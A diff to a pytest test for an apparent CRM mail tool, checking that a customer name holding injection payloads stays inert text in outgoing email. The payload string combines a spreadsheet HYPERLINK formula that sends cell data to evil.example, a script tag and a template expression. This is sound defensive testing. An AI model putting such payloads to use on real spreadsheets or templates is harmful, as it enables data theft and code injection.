@@ -165,14 +165,14 @@ def test_a_date_that_no_calendar_has_is_one_faulty_cell(tmp_path: Path, crm: Crm
 
 
 def test_hostile_text_stays_text(make_workbook: Make, crm: Crm) -> None:
-    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")<script>{{ 7*7 }}'
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")<script>{{ 1234*5678 }}'
     customers = [CUSTOMERS[0], ["P1", hostile, "Bapak", "1980-11-20", "budi@example.com", "Indonesia"]]
     book = make_workbook(Pelanggan=customers, Program=[PROGRAM_HEADER, BIRTHDAY])
     put_template(book, TEMPLATE)
     _, summary = crm("run nightly", book)
     assert summary["sent"] == 1
     (mail,) = (book.parent / "outbox").rglob("*.eml")
-    assert "49" not in mail.read_text(encoding="utf-8").split("\n\n", 1)[1]
+    assert "7006652" not in mail.read_text(encoding="utf-8").split("\n\n", 1)[1]
 
 
 @pytest.mark.parametrize(
